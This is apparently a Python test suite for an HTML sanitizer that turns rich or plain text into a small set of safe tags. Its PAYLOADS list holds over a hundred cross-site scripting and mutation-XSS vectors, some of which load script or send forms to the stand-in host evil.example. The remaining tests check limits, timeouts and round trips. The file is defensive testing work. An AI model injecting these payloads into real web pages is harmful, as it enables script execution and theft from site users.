"""Words on the way in: what attackers send, what editors send, and what must not get lost.

Each payload stands for one trick. Speed is held by the time limit of a test alone.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portfolio.core import words

SHOWN = {"p", "br", "strong", "em", "ul", "ol", "li"}

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script/x>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src='x'onerror=alert(1)//",
    '<img src="x`<script>alert(1)</script>"`>',
    '<img """><script>alert(1)</script>">',
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=1em>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><title><p id='</title><img src=x onerror=alert(1)>'></title></svg>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></math>',
    (
        "<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style>"
        '<a title="</style><img src=x onerror=alert(1)>">'
    ),
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><template><img src=x onerror=alert(1)></select>",
    "<table><td><script>alert(1)</script><style>x</style></table>",
    "<table background=javascript:alert(1)><tr><td background=x onclick=alert(1)>x</table>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=//evil.example ping=//evil.example target=_blank>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)></object>",
    "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<applet code=x archive=//evil.example></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<style>@import '//evil.example/x.css';p{background:url(//evil.example)}</style>",
    '<style><img src="</style><img src=x onerror=alert(1)//">',
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0' class=modal id=body>x</p>",
    "<p onclick=alert(1) OnMouseOver=alert(1) onpointerrawupdate=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<p x='>' onclick=alert(1)>x</p>",
    "<p ` onclick=alert(1)>x</p>",
    "<li autofocus tabindex=1 onfocus=alert(1)>x</li>",
    "<br onload=alert(1) hx-get=//evil.example hx-trigger=load data-behaviour=x>",
    "<strong hx-on:click=alert(1) x-data=1 @click=alert(1)>x</strong>",
    "<b title='x' lang=xx dir=rtl is=x slot=y part=z>x</b>",
    "<ul itemscope itemtype=//evil.example contenteditable draggable=true><li value=9>x</ul>",
    "<ol start=9999 reversed type=A><li>x</ol>",
    "<form action=//evil.example><input name=csrf_token><button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1) onloadstart=alert(1) src=x></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)><frameset onload=alert(1)>",
    "<html xmlns:x=1 manifest=//evil.example><head><script>alert(1)</script></head>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><script>alert(1)</script>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php echo 1?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<dialog open><p autofocus onfocus=alert(1)>x</dialog>",
    "<keygen autofocus onfocus=alert(1)><isindex action=javascript:alert(1) type=image>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60script&#62alert(1)",
    "&#0;<img src=x onerror=alert(1)>&#x80;",
    "<\x00img src=x onerror=alert(1)>",
    "<im\x00g src=x onerror=alert(1)>",
    "<p>\ud800<img src=x onerror=alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e>1(trela<tpircs\u202c<img src=x onerror=alert(1)>",
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>",
    "</p></div></main></body></html><script>alert(1)</script>",
    "<p><b><p></b><i onclick=alert(1)></p></i>",
    '<p title="<!--">--><img src=x onerror=alert(1)><p>',
)


class _Seen(HTMLParser):
    """What a lenient reader finds: the tags, any attribute, and anything that is not plain text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.others: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.others.extend(name for name, _ in attrs)

    def handle_endtag(self, tag: str) -> None:
        self.tags.add(tag)

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def _is_harmless(html: str) -> bool:
    seen = _Seen()
    seen.feed(html)
    seen.close()
    bare = re.sub(r"</?(?:p|br|strong|em|ul|ol|li)>", "", html)
    controls = re.search(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", html
    )
    return seen.tags <= SHOWN and not seen.others and not re.search("[<>]", bare) and not controls


def test_the_payloads_are_many_and_really_harmful() -> None:
    assert len(set(PAYLOADS)) >= 60
    tame = [payload for payload in PAYLOADS if _is_harmless(payload)]
    assert len(tame) <= 6, tame  # those that only become harmful in a second decoding


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_leaves_only_bare_tags(payload: str) -> None:
    for before, after in [
        ("", ""),
        ("<p>", "</p>"),
        ("<ul><li>", "<li>b</ul>"),
        ("<svg><p>", ""),
        ("<table>", "</table>"),
    ]:
        cleaned = words.clean(before + payload + after)
        assert _is_harmless(cleaned)
        assert words.clean(cleaned) == cleaned


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_typed_as_plain_text_stays_text(payload: str) -> None:
    html = words.from_plain(payload)
    assert _is_harmless(html)
    assert words.clean(html) == html


_PIECES = st.sampled_from(
    [
        f"<{slash}{tag}>"
        for tag in (*sorted(words.ALLOWED), "div", "a", "td", "table", "svg", "script")
        for slash in ("", "/")
    ]
    + [
        "<b x=1>",
        "<!--",
        "-->",
        "&lt;",
        "&amp;",
        "&nbsp;",
        "a",
        " ",
        "\n",
        "<",
        ">",
        '"',
        "\x00",
        "\u202e",
    ],
)


@given(st.lists(_PIECES, max_size=40).map("".join))
def test_any_soup_of_tags_comes_out_bare_and_stays_the_same(soup: str) -> None:
    cleaned = words.clean(soup)
    assert _is_harmless(cleaned)
    assert words.clean(cleaned) == cleaned


@given(st.text(max_size=300))
def test_any_text_comes_out_bare(text: str) -> None:
    assert _is_harmless(words.clean(text))


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("<p>My <b>big</b> <i>red</i> bus</p>", "<p>My <strong>big</strong> <em>red</em> bus</p>"),
        ("<p>one<br>two</p>", "<p>one<br>two</p>"),
        ("<ul><li>milk<li>eggs</ul>", "<ul><li>milk</li><li>eggs</li></ul>"),
        ("<ol><li>a<ul><li>b</li></ul></li></ol>", "<ol><li>a<ul><li>b</li></ul></li></ol>"),
        ("<div>one</div><div>two</div>", "<p>one</p><p>two</p>"),
        ("<h1>Frogs</h1>They jump.", "<p>Frogs</p>They jump."),
        ("<div><p>one</p></div>", "<p>one</p>"),
        ('see <a href="https://example.org/frogs">my frogs</a>!', "see my frogs!"),
        ("<p>a<script>b</script><style>c</style>d</p>", "<p>ad</p>"),
        ("<p>fish &amp; chips, 2 < 3 &copy;</p>", "<p>fish &amp; chips, 2 &lt; 3 \u00a9</p>"),
        ("<p>\u0645\u0631\u062d\u0628\u0627 \U0001f468\u200d\U0001f469\u200d\U0001f467</p>",) * 2,
        ("<p>I am \u202etrela\u202c \x00 here\ufeff</p>", "<p>I am trela  here</p>"),
        ("<p>I am &#x202e;trela &#1;</p>", "<p>I am trela </p>"),
        ("one\r\ntwo", "one\ntwo"),
        ("   ", ""),
        ("", ""),
    ],
)
def test_clean_keeps_what_was_meant(typed: str, kept: str) -> None:
    assert words.clean(typed) == kept


def test_table_cells_do_not_run_together() -> None:
    assert (
        words.to_plain(words.clean("<table><tr><td>frog<td>12<tr><td>newt<td>3</table>"))
        == "frog 12\n\nnewt 3"
    )


@pytest.mark.parametrize("letter", ["a", "\u00e9", "\U0001f438"])
def test_the_limit_is_counted_in_bytes(letter: str) -> None:
    fits = letter * (words.LONGEST_BYTES // len(letter.encode()))
    assert words.clean(fits) == fits
    with pytest.raises(words.WordsTooLong) as refused:
        words.clean(fits + letter)
    assert refused.value.limit == words.LONGEST_BYTES


def test_what_would_grow_past_the_limit_is_too_long() -> None:
    with pytest.raises(words.WordsTooLong):
        words.clean("&" * 20_000)
    with pytest.raises(words.WordsTooLong):
        words.from_plain("&" * 20_000)


def test_sixty_deep_is_kept_and_one_more_is_refused() -> None:
    deep = "<ul><li>" * 30 + "x" + "</li></ul>" * 30
    assert words.clean(deep) == deep
    with pytest.raises(words.WordsTooTangled):
        words.clean(f"<ul>{deep}</ul>")


def test_four_thousand_tags_are_kept_and_one_more_is_refused() -> None:
    assert words.clean("<br>" * 3_999 + "<p>x</p>").count("<br>") == 3_999
    with pytest.raises(words.WordsTooTangled):
        words.clean("<br>" * 4_001)
    with pytest.raises(words.WordsTooTangled):
        words.from_plain("a\n" * 4_001)


_ENDLESS = {
    "lists": "<ul><li>" * 64_000,
    "nested": "<div>" * 10_000,
    "bold": "<b>" * 10_000,
    "misnested": "<b><i><u><s><a></p>" * 10_000,
    "paragraphs": "<b><p>" * 10_000,
    "tables": "<table><tr><td>" * 10_000,
    "foreign": "<svg><math><mtext>" * 10_000,
    "ends": "</p>" * 10_000,
    "ampersands": "&" * 64_000,
    "entities": "&#x202e;" * 10_000,
    "open tag": "<p " + "a=1 " * 10_000,
    "comments": "<!--" * 10_000,
    "quotes": "<p a='" * 10_000,
}


@pytest.mark.timeout(10)
@pytest.mark.parametrize("name", _ENDLESS)
def test_the_worst_input_ends_soon(name: str) -> None:
    endless = _ENDLESS[name]
    with pytest.raises(words.WordsTooLong):
        words.clean(endless + " " * words.LONGEST_BYTES)
    try:
        cleaned = words.clean(endless[: words.LONGEST_BYTES])
    except words.WordsRefused:
        return
    assert _is_harmless(cleaned)


_FORMATTING = [
    "b",
    "BIG",
    "code",
    "em",
    "font",
    "i",
    "nobr",
    "s",
    "small",
    "strike",
    "strong",
    "tt",
    "u",
]


@pytest.mark.timeout(10)
@pytest.mark.parametrize("tag", _FORMATTING)
@pytest.mark.parametrize("gap", [" a{}", "/a{}", "\ta{}", "\na{}", "\fa{}", "\r\na{}"])
def test_attributes_of_formatting_end_before_any_parser(tag: str, gap: str) -> None:
    many = "".join(f"<{tag}{gap.format(number)}>" for number in range(900))
    assert words._defused(f"<p>{many}{'<p>x' * 1_500}") == f"<p>{f'<{tag}>' * 900}{'<p>x' * 1_500}"


def test_formatting_left_open_is_not_opened_again_for_every_attribute() -> None:
    many = "".join(f"<b a{number}>" for number in range(50))
    assert words.clean(f"<p>{many}{'<p>x' * 100}").count("<strong>") == 50 + 100 * 3


@pytest.mark.timeout(10)
@pytest.mark.parametrize("tag", _FORMATTING)
@pytest.mark.parametrize("odd", [" a{}='<'", "/a{}=<x", " <a{}"])
def test_odd_formatting_tags_are_counted_before_any_parser(tag: str, odd: str) -> None:
    many = "".join(f"<{tag}{odd.format(number)}>" for number in range(900))
    with pytest.raises(words.WordsTooTangled, match="again and again"):
        words.clean(f"<p>{many}{'<p>x' * 1_500}")


def test_a_long_paste_from_an_office_program_is_kept() -> None:
    line = '<p class="x"><font color="red">The frog</font> <a href="https://example.org">jumped</a>.</p>'
    assert words.clean(line * 250) == "<p>The frog jumped.</p>" * 250


@pytest.mark.parametrize(
    ("typed", "html"),
    [
        ("Hello", "<p>Hello</p>"),
        ("Hello\nyou", "<p>Hello<br>you</p>"),
        ("Hello\r\n\r\n\r\nyou", "<p>Hello</p><p>you</p>"),
        (
            "We need\n- milk\n* eggs\nSoon",
            "<p>We need</p><ul><li>milk</li><li>eggs</li></ul><p>Soon</p>",
        ),
        ("1. dig\n2. plant\n9) wait", "<ol><li>dig</li><li>plant</li><li>wait</li></ol>"),
        ("7. May was hot", "<p>7. May was hot</p>"),
        ("-5 degrees\n1.5 metres\n-", "<p>-5 degrees<br>1.5 metres<br>-</p>"),
        ("- a\n\n- b", "<ul><li>a</li></ul><ul><li>b</li></ul>"),
        ("2 < 3 & <b>", "<p>2 &lt; 3 &amp; &lt;b&gt;</p>"),
        ("  much \t  space\u00a0\u00a0here ", "<p>much space here</p>"),
        ("\x00\u202e", ""),
        ("\n\n", ""),
    ],
)
def test_plain_text_becomes_paragraphs_and_lists(typed: str, html: str) -> None:
    assert words.from_plain(typed) == html


_LINES = st.lists(
    st.one_of(
        st.text(max_size=20),
        st.builds(
            "".join,
            st.tuples(
                st.sampled_from(["- ", "* ", "1. ", "2. ", "1) ", "- - ", "", " "]),
                st.text(max_size=8),
            ),
        ),
    ),
    max_size=12,
).map("\n".join)


@given(_LINES)
def test_plain_text_goes_round_without_a_change(text: str) -> None:
    html = words.from_plain(text)
    assert _is_harmless(html)
    assert words.clean(html) == html
    assert words.from_plain(words.to_plain(html)) == html


def test_a_list_of_a_thousand_lines_goes_round() -> None:
    html = words.from_plain("1. a\n" * 1_200)
    assert html.count("<li>") == 1_200
    assert words.from_plain(words.to_plain(html)) == html
